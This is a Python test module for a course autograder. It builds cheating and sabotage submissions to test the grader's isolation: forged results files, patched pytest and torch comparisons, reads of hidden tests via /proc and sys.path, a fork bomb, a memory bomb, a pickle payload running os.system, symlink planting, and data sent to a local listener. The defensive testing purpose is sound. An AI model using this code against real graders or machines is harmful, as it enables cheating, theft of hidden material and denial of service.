"""Submissions that try to get marks without the work, or to read or damage the autograder or the machine.

Each attack is the handout (every TODO unsolved) or the reference with code added to its utils.py,
and sometimes files beside it. tests/test_grading_attacks.py grades each through autograder.zip in
a root laid out like Gradescope's and checks that it gets what it deserves. `python -m tools.grade
--attacks` prints the table of docs/instructors.md. The code finds the grader the way a student would: from
the command lines in /proc, which every user can read, and from its own sys.path, which holds the
autograder's source folder (grading/ inside it, and in Gradescope's layout results/ beside it).
"""
import socket
import threading
from dataclasses import dataclass, field
from pathlib import Path

from tools.autograde import GRADED_FILES, ROOT

FIND_THE_GRADER = '''
import glob as _glob, hashlib as _hashlib, json as _json, os as _os, sys as _sys


def _grader_paths():
    """Every results file and graded-tests folder named on a command line (the grader's or this process's)
    or found beside a folder on sys.path (neither the interpreter's nor this file's)."""
    own = _os.path.dirname(_os.path.abspath(__file__))
    sources = [path for path in _sys.path if path not in ("", own) and not path.startswith((_sys.prefix, _sys.base_prefix))]
    results = {_os.path.normpath(_os.path.join(path, "..", "results", "results.json")) for path in sources}
    folders = {_os.path.join(path, "grading") for path in sources}
    for cmdline in _glob.glob("/proc/[0-9]*/cmdline"):
        try:
            arguments = open(cmdline, "rb").read().decode(errors="replace").split("\\0")
        except OSError:
            continue
        for argument in arguments:
            if argument.startswith("--results="):
                results.add(argument.split("=", 1)[1])
            if argument.endswith("pytest.ini"):
                folders.add(_os.path.dirname(argument))
    return results, folders


def _full_marks(path):
    """Rewrite the results at `path` as if every test had passed (or write a perfect one)."""
    try:
        report = _json.load(open(path))
        for test in report["tests"]:
            test.update(score=test["max_score"], status="passed", output="")
        report["score"] = sum(test["max_score"] for test in report["tests"])
    except Exception:
        report = {"score": 59, "execution_time": 1.0, "tests": [
            {"name": "forged", "score": 59, "max_score": 59, "status": "passed", "visibility": "visible", "output": ""}]}
    with open(path, "w") as file:
        _json.dump(report, file)
'''

DUMMY_ANSWERS = '''
def cosine_beta_schedule(timesteps, s=0.008):
    return torch.zeros(timesteps, dtype=torch.float64)


def q_sample(schedule, x_start, t, noise=None, generator=None):
    return torch.zeros_like(x_start)


def p_losses(denoise_model, schedule, x_start, t, y, noise=None, loss_type="l2", generator=None):
    return torch.zeros((), dtype=x_start.dtype)


def guided_eps(denoiser, x_t, t, y, guidance_weight=0.0):
    return torch.zeros_like(x_t)


def p_sample(denoiser, schedule, x, t, y, guidance_weight=0.0, noise=None, generator=None):
    return torch.zeros_like(x)


def drop_labels(y, drop_probability, null_label, generator=None):
    return y.clone()
'''


LINKS_AT_OUTPUTS = '''
import os as _os
_planted = []
for _name, _target in (("results.json", "@VICTIM@"), ("grades.csv", "@VICTIM@"), ("grades.csv.tmp", "@VICTIM@"),
                       ("grades", _os.path.dirname("@VICTIM@"))):
    try:
        _os.symlink(_target, _os.path.join("@SHARED@", _name))
        _planted.append(f"PLANTED {_name}")
    except OSError as _error:
        _planted.append(f"COULD NOT PLANT {_name}: {_error.strerror}")
raise RuntimeError(" | ".join(_planted))
'''
"""Links at the paths where the next grading writes its results, its CSV and the CSV's partial file, and
at its folder of per-submission results, pointing at a file (and its folder) that root may write."""

READ_A_COPY = '''
import os as _os
_found = []
for _name in ("grading/test_hidden.py", "grading/fixtures/expected.pt", "utils.py"):
    _path = _os.path.join("@COPY@", _name)
    try:
        _data = open(_path, "rb").read()
        _found.append(f"READ {_path}: {_data[:40]!r}")
    except OSError as _error:
        _found.append(f"DENIED {_path}: {_error.strerror}")
raise RuntimeError(" | ".join(_found))
'''
"""A world-readable checkout of the course repository elsewhere on the machine, read for its hidden tests,
expected values and reference solution."""

CONNECT_OUT = '''
import socket as _socket
try:
    with _socket.create_connection((b"127.0.0.1", @PORT@), timeout=2) as _connection:  # bytes: no idna codec to load
        _connection.sendall(b"the hidden tests, read by a submission")
    _said = "SENT to 127.0.0.1:@PORT@"
except OSError as _error:
    _said = f"NO CONNECTION to 127.0.0.1:@PORT@: {_error.strerror or _error}"
raise RuntimeError(_said)
'''
"""Data sent to a port on 127.0.0.1: what would carry whatever a submission can read off the machine."""

READ_PROC = '''
import os as _os
_seen = []
for _entry in (_os.listdir("/proc") if _os.path.isdir("/proc") else []):
    if _entry.isdigit() and int(_entry) not in (_os.getpid(), _os.getppid()):
        try:
            _command = open(f"/proc/{_entry}/cmdline", "rb").read().replace(bytes(1), b" ").decode(errors="replace")
        except OSError:
            continue
        if "tools.grade" in _command or "pytest" in _command:
            _seen.append(f"SAW {_entry}: {_command[:100]}")
raise RuntimeError(" | ".join(_seen) or "NO GRADER PROCESS in /proc")
'''
"""The grader's processes looked up in /proc (its command lines name the results and the autograder's
folder), beyond the submission's own process and its parent."""


@dataclass(frozen=True)
class Attack:
    """`code` is appended to the base's utils.py; `files` are written beside it. `breaks` names what
    the attack stops from working in a reference: graded tests whose probes call `q_sample`, or
    every test that needs utils.py ('utils'); None for an attack on the handout, which must score 0."""

    base: str  # "handout" or "reference"
    code: str
    files: dict[str, str] = field(default_factory=dict)
    breaks: str | None = None
    needs_root: bool = False  # without namespaces, the grader's file isolation as root is what stops it
    aims_outside: bool = False  # aims at Targets outside the autograder: graded by tests/test_grading_isolation.py


def _in_q_sample(body: str) -> str:
    return f"\n\n_reference_q_sample = q_sample\n\n\ndef q_sample(*args, **kwargs):\n{body}\n"


ATTACKS = {
    "results forged at exit (atexit)": Attack("handout", FIND_THE_GRADER + '''
import atexit


@atexit.register
def _forge():
    for path in _grader_paths()[0] | {a.split("=", 1)[1] for a in _sys.argv if a.startswith("--results=")}:
        try:
            _full_marks(path)
        except OSError as error:
            print("could not forge", path, error)
'''),
    "comparison helpers and torch.testing patched": Attack("handout", DUMMY_ANSWERS + '''
import sys as _sys
torch.testing.assert_close = lambda *args, **kwargs: None
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
for _module in list(_sys.modules.values()):
    if hasattr(_module, "close") and getattr(_module, "__name__", "") == "support":
        _module.close = lambda *args, **kwargs: None
'''),
    "pytest's report hooks patched": Attack("handout", DUMMY_ANSWERS + '''
try:
    import _pytest.reports
    _pytest.reports.BaseReport.passed = property(lambda self: True)
    _pytest.reports.BaseReport.failed = property(lambda self: False)
except Exception:
    pass
'''),
    "conftest.py and pytest.ini beside the graded files": Attack("handout", DUMMY_ANSWERS, files={
        "conftest.py": "import pytest\n\n\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n"
                       "    outcome = yield\n    outcome.get_result().outcome = 'passed'\n",
        "pytest.ini": "[pytest]\naddopts = -p no:grading --co\n"}),
    "hidden tests, fixtures and reference read into the output": Attack("handout", FIND_THE_GRADER + '''
_found = []
for _folder in _grader_paths()[1] | {"/autograder/source/grading"}:
    for _name in ("test_hidden.py", "fixtures/expected.pt", "../utils.py", "../tools/autograde.py"):
        _path = _os.path.normpath(_os.path.join(_folder, _name))
        try:
            _data = open(_path, "rb").read()
            _found.append(f"READ {_path} sha256 {_hashlib.sha256(_data).hexdigest()}: {_data[:60]!r}")
        except OSError as _error:
            _found.append(f"DENIED {_path}: {_error.strerror}")
print("\\n".join(_found))
raise RuntimeError(" | ".join(_found))
''', needs_root=True),
    "results file written directly, again and again from a background process": Attack("handout", FIND_THE_GRADER + '''
if _os.fork() == 0:  # a daemon that outlives the grading and keeps writing full marks
    _os.setsid()
    if _os.fork() == 0:
        import time as _time
        for _ in range(200):
            for _path in _grader_paths()[0]:
                try:
                    _full_marks(_path)
                except OSError:
                    pass
            _time.sleep(0.05)
    _os._exit(0)
''', needs_root=True),
    "os._exit(0) at import": Attack("handout", "\nimport os\nos._exit(0)\n"),
    "sys.exit(0) at import": Attack("handout", "\nimport sys\nsys.exit(0)\n"),
    "an endless loop at import": Attack("reference", "\nwhile True:\n    pass\n", breaks="utils"),
    "a fork bomb": Attack("reference", _in_q_sample("    import os\n    while True:\n        os.fork()"),
                          breaks="q_sample", needs_root=True),
    "a memory bomb": Attack("reference", _in_q_sample(
        "    blocks = []\n    while True:\n        blocks.append(torch.ones(2**25, dtype=torch.float64))"),
        breaks="q_sample"),
    "100 MB printed": Attack("reference", _in_q_sample(
        "    for _ in range(100):\n        print('x' * 2**20)\n    return _reference_q_sample(*args, **kwargs)"),
        breaks="q_sample"),
    "an answer whose unpickling runs code": Attack("handout", '''
import os as _os, pickle as _pickle, sys as _sys

MARKER = "/tmp/unpickled-a-submissions-answer"


class _Payload:
    def __reduce__(self):
        return (_os.system, (f"touch {MARKER}",))


def cosine_beta_schedule(timesteps, s=0.008):
    return _Payload()


for _module in list(_sys.modules.values()):  # whatever the grader's side decodes, make it a pickle
    if getattr(_module, "__name__", "") == "wire":
        _module.encode = lambda value: _pickle.dumps(_Payload())
'''),
    "autograder files deleted and rewritten": Attack("handout", FIND_THE_GRADER + '''
for _folder in _grader_paths()[1] | {"/autograder/source/grading"}:
    for _name in ("support.py", "conftest.py", "../tools/autograde.py"):
        try:
            with open(_os.path.join(_folder, _name), "a") as _file:
                _file.write("\\nclose = lambda *args, **kwargs: None\\n")
        except OSError as _error:
            print("could not rewrite", _name, _error)
    for _name in ("test_hidden.py", "fixtures/expected.pt", "fixtures/expected_public.pt"):
        try:
            _os.remove(_os.path.join(_folder, _name))
        except OSError as _error:
            print("could not delete", _name, _error)
''', needs_root=True),
    "a graded file that links to the hidden tests": Attack("handout", "", files={"ddpm.py": "@link grading/test_hidden.py"}),
    "links planted at the grader's next output paths": Attack("handout", LINKS_AT_OUTPUTS, aims_outside=True),
    "a world-readable copy of the course repository read": Attack("handout", READ_A_COPY, aims_outside=True),
    "data sent to a port on 127.0.0.1": Attack("handout", CONNECT_OUT, aims_outside=True),
    "the grader's processes read in /proc": Attack("handout", READ_PROC, aims_outside=True),
}

ISOLATION_SETTINGS = ("root, namespaces", "not root, namespaces", "root, no namespaces", "not root, no namespaces")
"""Where a grading may run: as root or not, on a kernel that lets it create namespaces or not (a
container whose seccomp profile forbids them, macOS, or AUTOGRADER_NAMESPACES=0). Without
namespaces, a root grader runs the submission as the sandbox user; one that is not root, as itself."""

KEPT_OUT = {
    "hidden tests, fixtures and reference read into the output": ISOLATION_SETTINGS[:3],
    "results file written directly, again and again from a background process": ISOLATION_SETTINGS[:3],
    "autograder files deleted and rewritten": ISOLATION_SETTINGS[:3],
    "links planted at the grader's next output paths": ISOLATION_SETTINGS,
    "a world-readable copy of the course repository read": ISOLATION_SETTINGS[:2],
    "data sent to a port on 127.0.0.1": ISOLATION_SETTINGS[:2],
    "the grader's processes read in /proc": ISOLATION_SETTINGS[:2],
}
"""The settings in which each attack on what lies outside the submission's own process is kept out:
what tests/test_grading_isolation.py measures, and docs/instructors.md's table of isolation shows."""


def isolation_table() -> str:
    """KEPT_OUT as the markdown table of docs/instructors.md: an attack a row, a setting a column."""
    lines = ["| attack | " + " | ".join(ISOLATION_SETTINGS) + " |", "|---|" + "---|" * len(ISOLATION_SETTINGS)]
    for name, settings in KEPT_OUT.items():
        lines.append(f"| {name} | " + " | ".join("kept out" if setting in settings else "**gets through**"
                                                 for setting in ISOLATION_SETTINGS) + " |")
    return "\n".join(lines)


@dataclass(frozen=True)
class Targets:
    """What the attacks that aim outside the autograder aim at, made by whoever grades them:
    `shared`, a folder every user may write (sticky, as /tmp), where the next grading writes its
    results and CSV; `victim`, a file that the grader may write and the submission may not, at which
    the links planted there point; `copy`, a world-readable checkout of the course repository
    elsewhere; `port`, a port on 127.0.0.1 on which a listener waits."""

    shared: Path
    victim: Path
    copy: Path
    port: int

    def fill(self, code: str) -> str:
        return (code.replace("@SHARED@", str(self.shared)).replace("@VICTIM@", str(self.victim))
                .replace("@COPY@", str(self.copy)).replace("@PORT@", str(self.port)))


class Listener:
    """A port on 127.0.0.1 that records every byte sent to it, until stopped."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port, self.received = self.server.getsockname()[1], b""
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:  # stopped
                return
            with connection:
                connection.settimeout(2)
                try:
                    while chunk := connection.recv(4096):
                        self.received += chunk
                except OSError:
                    pass

    def stop(self) -> bytes:
        """Stop listening (shutdown wakes the accept); returns what was received."""
        if self.thread.is_alive():
            try:
                self.server.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass
            self.server.close()
            self.thread.join()
        return self.received


def course_copy(folder: Path) -> Path:
    """A checkout of the course repository as a teaching assistant might leave one: its hidden tests,
    fixtures and reference solution, readable by every user. Returns `folder`."""
    for name in ("grading/test_hidden.py", "grading/fixtures/expected.pt", "utils.py"):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes((ROOT / name).read_bytes())
    for path in [folder, *folder.rglob("*")]:
        path.chmod(0o755 if path.is_dir() else 0o644)
    return folder

SEARCH_EVERY_FILE = '''
import os as _os
_found = []
for _top, _dirs, _files in _os.walk("/", onerror=lambda error: None):
    _dirs[:] = [name for name in _dirs if _os.path.join(_top, name) not in ("/proc", "/sys", "/dev", "/usr")]
    for _name in _files:
        if _name in ("test_hidden.py", "expected.pt", "results.json", "utils.py", "ddpm.py", "autograde.py"):
            try:
                _data = open(_os.path.join(_top, _name), "rb").read()
            except OSError:
                continue
            if _name not in ("utils.py", "ddpm.py") or b"# END " + b"SOLUTION" in _data:  # not this file itself
                _found.append(_os.path.join(_top, _name))
raise RuntimeError("FOUND " + " | ".join(_found))
'''
"""Code that walks every folder it may enter for the hidden tests, fixtures, results, grader and a
reference solution (a utils.py or ddpm.py with its solution markers), and reports what it read."""

UNPICKLE_MARKER = Path("/tmp/unpickled-a-submissions-answer")


def attack_submission(name: str, folder: Path, handout: Path, autograder_source: Path = ROOT,
                      targets: Targets | None = None) -> Path:
    """Write attack `name` into `folder` (created): the base's graded files (from `handout`, the
    output of tools/make_handout.py, or this copy's reference), the attack's code appended to
    utils.py and its extra files. A file '@link PATH' becomes a symbolic link to PATH inside
    `autograder_source`. An attack that aims outside takes its `targets`. Returns the folder."""
    attack = ATTACKS[name]
    if attack.aims_outside and targets is None:
        raise ValueError(f"the attack {name!r} aims outside the autograder: give it its targets")
    folder.mkdir(parents=True, exist_ok=True)
    base = {name: ((handout if attack.base == "handout" else ROOT) / name).read_text() for name in GRADED_FILES}
    base["utils.py"] += "\n" + (targets.fill(attack.code) if targets else attack.code)
    for name, text in {**base, **attack.files}.items():
        path = folder / name
        if path.is_symlink() or path.exists():
            path.unlink()
        if text.startswith("@link "):
            path.symlink_to(autograder_source / text.removeprefix("@link "))
        else:
            path.write_text(text)
    return folder
